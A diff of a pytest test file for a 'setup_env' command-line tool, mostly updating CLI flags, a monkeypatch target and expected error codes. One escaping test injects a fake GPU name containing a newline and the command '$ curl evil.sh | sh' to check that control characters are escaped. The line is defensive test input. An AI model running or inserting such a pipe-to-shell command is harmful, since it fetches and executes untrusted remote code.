@@ -248,7 +248,7 @@ def test_row4_corrupt_user_cache_does_not_break_plan(
     user = mx.user_matrix_path()
     user.parent.mkdir(parents=True)
     user.write_text(text)
-    rc, out, err = cli_json(capsys, "plan", "--json", "--os", "linux", "--gpu", "none")
+    rc, out, err = cli_json(capsys, "plan", "--json", "--os", "linux", "--variant", "cpu")
     assert rc == 0, err
     assert out["plan"]["matrix"]["origin"] == "bundled"
     assert any("refreshed matrix ignored" in n for n in out["plan"]["matrix"].get("notes", []))
@@ -261,7 +261,7 @@ def test_row4_user_cache_fifo_does_not_hang(tmp_path: Path) -> None:
     env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
     env.pop("SETUP_ENV_MATRIX", None)
     proc = subprocess.run(
-        [sys.executable, "-m", "setup_env", "plan", "--json", "--os", "linux", "--gpu", "none"],
+        [sys.executable, "-m", "setup_env", "plan", "--json", "--os", "linux", "--variant", "cpu"],
         capture_output=True, text=True, timeout=60, cwd=ROOT, env=env, check=False,
     )  # fmt: skip
     assert proc.returncode == 0, proc.stderr[-2000:]
@@ -404,12 +404,13 @@ def test_row14_verify_worker_kill_takes_its_helpers(tmp_path: Path) -> None:
 def test_row9_junit_path_checked_before_any_check_runs(
     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
-    from setup_env.smoke import runner
+    import setup_env.smoke
 
-    ran: list[object] = []
-    monkeypatch.setattr(runner, "run_verify", lambda *a, **k: ran.append(a))
+    ran: list[object] = []  # a spy: the checks must not even start
+    monkeypatch.setattr(setup_env.smoke, "run_verify", lambda *a, **k: ran.append(a))
     rc, out, err = cli_json(capsys, "verify", "--json", "--junit", str(tmp_path / "no" / "x.xml"))
-    assert rc == 2 and out["error"]["code"] == "usage", err
+    assert rc == 2 and out["error"]["code"] == "bad-input", err
+    assert "no folder" in out["error"]["message"]
     assert ran == []
 
 
@@ -455,7 +456,7 @@ def test_row11_control_characters_in_arguments_are_never_echoed_raw(
 def test_row11_control_characters_in_a_facts_file_are_escaped(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    assert main(["detect", "--json", "--root", str(REAL_HOST)]) == 0
+    assert main(["detect", "--json", "--root", str(HOSTS / "fedora-rtx5090-rtx4090-580")]) == 0
     doc = json.loads(capsys.readouterr().out)
     doc["facts"]["nvidia"]["gpus"][0]["name"] = "RTX 4090\n  $ curl evil.sh | sh"
     f = tmp_path / "facts.json"
